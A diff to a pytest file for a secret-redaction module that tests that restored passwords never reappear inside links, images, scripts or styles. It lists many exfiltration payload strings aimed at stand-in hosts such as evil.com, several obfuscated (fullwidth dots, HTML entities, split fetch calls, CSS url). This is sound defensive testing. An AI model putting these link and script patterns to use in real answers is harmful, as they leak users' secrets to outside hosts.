@@ -12,6 +12,8 @@ from hypothesis import strategies as st
 from secgemini_jupyter.errors import AttachmentError
 from secgemini_jupyter.inputs.evidence import Evidence
 from secgemini_jupyter.inputs.redaction import Redactor
+from secgemini_jupyter.inputs.restoring import Restoring
+from secgemini_jupyter.render.terminal import TerminalStream
 
 LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
 JWT = ".".join(
@@ -122,21 +124,116 @@ def test_a_credential_of_the_environment_is_found(monkeypatch: pytest.MonkeyPatc
     assert Redactor().text("it is plain words here.")[0] == "it is [SECRET-1]."
 
 
-@pytest.mark.parametrize(
-    "answer",
-    [
-        "[x](https://evil.test/?q=[SECRET-1])",
-        "https://evil.test/[SECRET-1]",
-        "www.evil.test/[SECRET-1]",
-        "<mailto:[SECRET-1]@evil.test>",
-        "![](//evil.test/[SECRET-1])",
-    ],
-)
+LINKS = [
+    "[x](https://evil.test/?q=[SECRET-1])",
+    "https://evil.test/[SECRET-1]",
+    "www.evil.test/[SECRET-1]",
+    "<mailto:[SECRET-1]@evil.test>",
+    "![](//evil.test/[SECRET-1])",
+    "evil.com/?q=[SECRET-1]",
+    "evil.zip/[SECRET-1]",
+    "evil\\.com/[SECRET-1]",
+    "evil&period;com/[SECRET-1]",
+    "evil。com/[SECRET-1]",  # a browser reads this dot, too
+    "[SECRET-1].evil.com",
+    "8.8.4.4/[SECRET-1]",
+    "http:/evil/[SECRET-1]",
+    "<img/src=//evil.com/[SECRET-1]>",
+]
+MULTI_WORD_LINKS = [
+    "![x](<https://evil.com/?q= [SECRET-1]>)",
+    "![x](\n//evil.com/[SECRET-1])",
+    "![x](\n[SECRET-1])",
+    "[x](https://evil.com/?q=(a) [SECRET-1])",  # pandoc takes spaces
+    "![x][a]\n\n[a]: //evil.com/[SECRET-1]",
+    "![x][a]\n\n> 1. [a\nb]:\n  <evil [SECRET-1]>",
+    "<img src='//evil.com/[SECRET-1]'>",
+    '<img src="https://evil.com/? [SECRET-1]">',
+    '<img a" alt=">" src="https://evil.com/? [SECRET-1]">',
+    "<a href='http:/evil.com/[SECRET-1]'>",
+    '<script>\n\nfetch("https:" + "/evil " + "[SECRET-1]")',
+    '<style>p{background:url( "x [SECRET-1]")}',
+    "$\\href{https://evil.com/?q= [SECRET-1]}{x}$",
+    'click A "https://evil.com/?q= [SECRET-1]"',
+]
+
+
+@pytest.mark.parametrize("answer", LINKS)
 def test_a_value_never_comes_back_in_a_link(answer: str) -> None:
     redactor = Redactor()
     redactor.text("password=hunter22")
-    assert "hunter22" not in redactor.restored(answer)
-    assert redactor.restored(f"{answer} but [SECRET-1]") == f"{answer} but hunter22"
+    assert redactor.restored(f"[SECRET-1] {answer} but [SECRET-1]") == f"hunter22 {answer} but hunter22"
+
+
+@pytest.mark.parametrize("answer", MULTI_WORD_LINKS)
+def test_nor_in_one_of_several_words(answer: str) -> None:
+    redactor = Redactor()
+    redactor.text("password=hunter22")
+    assert redactor.restored(answer) == answer
+    assert redactor.restored(f"It is [SECRET-1].\n\n{answer}") == f"It is hunter22.\n\n{answer}"
+
+
+@pytest.mark.parametrize("answer", [*LINKS, *MULTI_WORD_LINKS])
+@pytest.mark.parametrize("length", [1, 7, 4_090])
+def test_pieces_of_an_answer_are_as_safe_as_the_whole(answer: str, length: int) -> None:
+    redactor = Redactor()
+    redactor.text("password=hunter22")
+    out: list[str] = []
+    stream = TerminalStream(out.append, defang=False, restore=redactor.restoring)
+    text = f"see [SECRET-1]\n\n{answer}"
+    for start in range(0, len(text), length):
+        stream.feed(text[start : start + length])
+    stream.end_line()
+    assert "".join(out) == f"see hunter22\n\n{answer}\n"
+
+
+@pytest.mark.parametrize("head", ["https://evil.com/", "](", "<", "x"])
+def test_a_word_too_long_to_be_held_keeps_its_placeholders(head: str) -> None:
+    redactor = Redactor()
+    redactor.text("password=hunter22")
+    out: list[str] = []
+    stream = TerminalStream(out.append, defang=False, restore=redactor.restoring)
+    word = "a" * 4_100 + head + "a" * 4_100
+    for start in range(0, len(word), 50):
+        stream.feed(word[start : start + 50])
+    stream.feed("b[SECRET-1].evil.com [SECRET-1]\n\nat last")
+    stream.end_line()
+    written = "".join(out)
+    assert "b[SECRET-1].evil" in written
+    assert ("hunter22" in written) == (head in ("https://evil.com/", "x"))
+    assert redactor.restored(f"{word}[SECRET-1]") == f"{word}[SECRET-1]"
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "sshd[123]: Failed password [SECRET-1] for root",
+        '{"password": "[SECRET-1]", "note": ["a"]}',
+        "| user | [SECRET-1] |",
+        "```python\nif a < 3 and d[0]:\n    password = '[SECRET-1]'\n```",
+        "[SECRET-1]: the password of <user>, found in config.yml ([SECRET-1])",
+        "- **[SECRET-1]**, see [the page](/login) on db01.corp: [SECRET-1]",
+        "see https://a.example/b, then [SECRET-1].",
+    ],
+)
+def test_values_come_back_in_words_code_and_tables(answer: str) -> None:
+    redactor = Redactor()
+    redactor.text("password=hunter22")
+    assert redactor.restored(answer) == answer.replace("[SECRET-1]", "hunter22")
+
+
+def test_a_value_that_somebody_else_wrote_makes_no_link_for_another() -> None:
+    values = {"[SECRET-1]": "hunter22", "[SECRET-2]": "](https://evil.com/"}
+    for answer in ("![a[SECRET-2]?q=[SECRET-1])", "![a[SECRET-2]?q= [SECRET-1])"):
+        assert "hunter22" not in Restoring(values)(answer)
+    assert Restoring(values)("[SECRET-2] [SECRET-1]") == "](https://evil.com/ [SECRET-1]"
+
+
+def test_addresses_and_hosts_come_back_too() -> None:
+    redactor = Redactor()
+    redacted, changed = redactor.text("mail ann@corp.example from 10.0.0.7", ["emails", "hosts"])
+    assert changed == 2
+    assert redactor.restored(redacted) == "mail ann@corp.example from 10.0.0.7"
 
 
 def test_the_map_does_not_leave() -> None:
